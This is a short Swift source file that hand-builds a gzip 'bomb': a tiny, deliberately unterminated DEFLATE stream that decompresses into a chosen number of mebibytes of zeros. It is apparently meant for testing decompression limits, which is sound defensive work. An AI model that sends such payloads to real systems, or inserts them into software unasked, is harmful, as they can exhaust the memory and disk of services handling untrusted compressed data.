/// Data that is small as gzip has it and large when decompressed.
enum GzipBomb {
  /// So many zeros, without an end.
  static func zeros(mebibytes: Int) -> [UInt8] {
    let header: [UInt8] = [0x1F, 0x8B, 0x08, 0, 0, 0, 0, 0, 2, 0x03]
    // A last block with the fixed codes of RFC 1951, and the literal 0 in it.
    var bits: [UInt8] = [1, 1, 0] + [0, 0, 1, 1, 0, 0, 0, 0]
    // Then again and again: a copy of 258 bytes (code 285) from a distance of one.
    for _ in 0..<16 { bits += [1, 1, 0, 0, 0, 1, 0, 1] + [0, 0, 0, 0, 0] }
    let bytes = stride(from: 0, to: 120, by: 8).map { start in
      bits[start..<start + 8].enumerated().reduce(UInt8(0)) { $0 | $1.element << UInt8($1.offset) }
    }
    // Eight copies fill 13 bytes; from the third byte on, nothing but copies comes.
    let period = bytes[2..<15]
    let periodCount = mebibytes * 1_048_576 / (8 * 258)
    return header + bytes[..<2] + [[UInt8]](repeating: Array(period), count: periodCount).joined()
  }
}
